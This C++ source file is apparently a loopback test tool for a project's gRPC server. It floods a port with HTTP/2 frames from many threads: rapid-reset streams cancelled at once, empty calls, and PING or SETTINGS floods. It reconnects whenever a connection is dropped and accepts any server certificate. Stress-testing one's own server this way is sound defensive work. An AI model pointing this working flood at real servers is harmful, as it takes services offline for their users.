// SPDX-License-Identifier: Apache-2.0
// http2-attacker: floods a gRPC port with HTTP/2 frames from several connections. A connection that the server ends is
// opened again at once.
//   http2-attacker PORT CONNECTIONS SECONDS reset|call|ping|settings [--method PATH] [--token TOKEN]
//                  [--deaf] [--tls-cert FILE --tls-key FILE]
// reset: calls that are reset at once, of GetStatus unless --method names another; call: the same calls with an empty
// message and without the reset. ping, settings: frames that the server must acknowledge.
// --deaf: reads nothing. --tls-cert, --tls-key: speaks TLS with this certificate, and takes any of the server. Prints
// how many frames it has sent and how many connections it has opened.
#include <fcntl.h>
#include <poll.h>
#include <sys/socket.h>

#include <atomic>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <thread>
#include <vector>

#include "openssl/ssl.h"
#include "tests/testing/loopback.h"

namespace skein {
namespace {

using Clock = std::chrono::steady_clock;

struct Attack {
  int port = 0;
  std::string kind;
  std::string method = "/skein.v1.Coordinator/GetStatus";
  std::string token;
  bool deaf = false;
  SSL_CTX* tls = nullptr;
  Clock::time_point end;
};

struct Totals {
  std::atomic<uint64_t> frames{0};
  std::atomic<uint64_t> connections{0};
};

void AppendNumber(std::string* out, uint32_t value, int bytes) {
  for (int shift = 8 * (bytes - 1); shift >= 0; shift -= 8) out->push_back(static_cast<char>(value >> shift));
}

// RFC 9113, section 4.1.
void AppendFrame(std::string* out, uint8_t type, uint8_t flags, uint32_t stream, const std::string& payload) {
  AppendNumber(out, static_cast<uint32_t>(payload.size()), 3);
  AppendNumber(out, type, 1);
  AppendNumber(out, flags, 1);
  AppendNumber(out, stream, 4);
  out->append(payload);
}

// RFC 7541, section 6.2.2: a literal header field without indexing, its name from the static table or new. Texts have
// fewer than 127 bytes.
std::string Field(const std::string& name, const std::string& value) {
  return name + static_cast<char>(value.size()) + value;
}

std::string CallHeaders(const Attack& attack) {
  std::string headers(attack.tls == nullptr ? "\x83\x86" : "\x83\x87", 2);  // :method POST, :scheme http or https.
  headers += Field("\x04", attack.method);
  headers += Field("\x01", "localhost");
  headers += Field("\x0f\x10", "application/grpc");
  headers += Field(std::string("\x00\x02te", 4), "trailers");
  if (!attack.token.empty()) headers += Field("\x0f\x08", "Bearer " + attack.token);
  return headers;
}

constexpr uint8_t kData = 0, kHeaders = 1, kReset = 3, kSettings = 4, kPing = 6;
constexpr uint8_t kEndStream = 1, kEndHeaders = 4;
constexpr int kFramesAtOnce = 100;

// A connection that never blocks, by TLS or without.
class Connection {
 public:
  explicit Connection(const Attack& attack) : attack_(attack), fd_(ConnectTo(attack.port)) {
    if (fd_ < 0) return;
    fcntl(fd_, F_SETFL, fcntl(fd_, F_GETFL) | O_NONBLOCK);
    if (attack.tls == nullptr) return;
    ssl_ = SSL_new(attack.tls);
    SSL_set_fd(ssl_, fd_);
  }
  ~Connection() {
    SSL_free(ssl_);
    if (fd_ >= 0) close(fd_);
  }
  Connection(const Connection&) = delete;
  Connection& operator=(const Connection&) = delete;

  // False: there is no connection, or it is the attack's end.
  bool ShakeHands() const {
    while (ssl_ != nullptr) {
      const int done = SSL_connect(ssl_);
      if (done == 1) break;
      if (!IsForNow(done)) return false;
      pollfd polled = {fd_, static_cast<short>(SSL_want_write(ssl_) ? POLLOUT : POLLIN), 0};
      poll(&polled, 1, 100);
      if (Clock::now() >= attack_.end) return false;
    }
    return fd_ >= 0;
  }
  // Sends all of `bytes`; meanwhile it reads what comes, unless it is deaf. False: the connection has ended.
  bool SendAll(const std::string& bytes) const {
    size_t sent = 0;
    while (sent < bytes.size()) {
      pollfd polled = {fd_, static_cast<short>(attack_.deaf ? POLLOUT : POLLOUT | POLLIN), 0};
      if (Clock::now() >= attack_.end) return false;
      if (poll(&polled, 1, 100) <= 0) continue;
      if ((polled.revents & (POLLERR | POLLHUP)) != 0) return false;
      if ((polled.revents & POLLIN) != 0 && !Read()) return false;
      if ((polled.revents & POLLOUT) == 0) continue;
      const ssize_t some = Send(bytes.data() + sent, bytes.size() - sent);
      if (some < 0) return false;
      sent += static_cast<size_t>(some);
    }
    return true;
  }

 private:
  // Whether OpenSSL will go on with what it has not done.
  bool IsForNow(int result) const {
    const int error = SSL_get_error(ssl_, result);
    return error == SSL_ERROR_WANT_READ || error == SSL_ERROR_WANT_WRITE;
  }
  // How much; -1: the connection has ended.
  ssize_t Send(const char* bytes, size_t size) const {
    if (ssl_ != nullptr) {
      const int some = SSL_write(ssl_, bytes, static_cast<int>(size));
      return some > 0 ? some : IsForNow(some) ? 0 : -1;
    }
    const ssize_t some = send(fd_, bytes, size, MSG_NOSIGNAL);
    return some >= 0 ? some : errno == EAGAIN ? 0 : -1;
  }
  // What has come. False: the connection has ended.
  bool Read() const {
    char bytes[1 << 16];
    if (ssl_ == nullptr) return recv(fd_, bytes, sizeof(bytes), 0) > 0;
    const int some = SSL_read(ssl_, bytes, sizeof(bytes));
    return some > 0 || IsForNow(some);
  }

  const Attack& attack_;
  const int fd_;
  SSL* ssl_ = nullptr;
};

void AppendFrames(std::string* out, const Attack& attack, const std::string& headers, uint32_t* stream) {
  for (int i = 0; i < kFramesAtOnce; ++i) {
    if (attack.kind == "ping") {
      AppendFrame(out, kPing, 0, 0, "12345678");
    } else if (attack.kind == "settings") {
      AppendFrame(out, kSettings, 0, 0, "");
    } else {
      AppendFrame(out, kHeaders, kEndHeaders, *stream, headers);
      if (attack.kind == "call") {
        AppendFrame(out, kData, kEndStream, *stream, std::string(5, '\0'));  // Not compressed, of no bytes.
      } else {
        AppendFrame(out, kReset, 0, *stream, std::string("\0\0\0\x08", 4));  // CANCEL.
      }
      *stream += 2;
    }
  }
}

void Run(const Attack& attack, Totals* totals) {
  const std::string headers = CallHeaders(attack);
  while (Clock::now() < attack.end) {
    const Connection connection(attack);
    if (!connection.ShakeHands()) {
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
      continue;
    }
    ++totals->connections;
    std::string bytes = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    AppendFrame(&bytes, kSettings, 0, 0, "");
    uint32_t stream = 1;
    do {
      AppendFrames(&bytes, attack, headers, &stream);
      if (!connection.SendAll(bytes)) break;
      totals->frames += kFramesAtOnce;
      bytes.clear();
    } while (Clock::now() < attack.end && stream < uint32_t{1} << 30);
  }
}

// Null: a file cannot be used.
SSL_CTX* MakeTls(const std::string& certificate, const std::string& key) {
  SSL_CTX* const tls = SSL_CTX_new(TLS_client_method());
  SSL_CTX_set_mode(tls, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
  const bool usable = SSL_CTX_use_certificate_chain_file(tls, certificate.c_str()) == 1 &&
                      SSL_CTX_use_PrivateKey_file(tls, key.c_str(), SSL_FILETYPE_PEM) == 1 &&
                      SSL_CTX_set_alpn_protos(tls, reinterpret_cast<const unsigned char*>("\x02h2"), 3) == 0;
  return usable ? tls : nullptr;
}

int Main(const std::vector<std::string>& arguments) {
  if (arguments.size() < 4) {
    std::fprintf(stderr, "usage: http2-attacker PORT CONNECTIONS SECONDS KIND [...]; see http2_attacker.cc\n");
    return 64;
  }
  Attack attack;
  attack.port = std::atoi(arguments[0].c_str());
  attack.end = Clock::now() + std::chrono::milliseconds(static_cast<int>(1000 * std::atof(arguments[2].c_str())));
  attack.kind = arguments[3];
  std::string certificate, key;
  for (size_t i = 4; i < arguments.size(); ++i) {
    if (arguments[i] == "--deaf") attack.deaf = true;
    if (arguments[i] == "--method" && i + 1 < arguments.size()) attack.method = arguments[++i];
    if (arguments[i] == "--token" && i + 1 < arguments.size()) attack.token = arguments[++i];
    if (arguments[i] == "--tls-cert" && i + 1 < arguments.size()) certificate = arguments[++i];
    if (arguments[i] == "--tls-key" && i + 1 < arguments.size()) key = arguments[++i];
  }
  std::signal(SIGPIPE, SIG_IGN);  // OpenSSL writes to connections that the server has ended.
  if (!certificate.empty() && (attack.tls = MakeTls(certificate, key)) == nullptr) {
    std::fprintf(stderr, "http2-attacker: the certificate and key cannot be used\n");
    return 64;
  }
  Totals totals;
  std::vector<std::thread> threads;
  for (int i = 0; i < std::atoi(arguments[1].c_str()); ++i) {
    threads.emplace_back([&] { Run(attack, &totals); });
  }
  for (std::thread& thread : threads) thread.join();
  std::printf("sent %lu frames over %lu connections\n", static_cast<unsigned long>(totals.frames),
              static_cast<unsigned long>(totals.connections));
  return 0;
}

}  // namespace
}  // namespace skein

int main(int argc, char** argv) { return skein::Main({argv + 1, argv + argc}); }
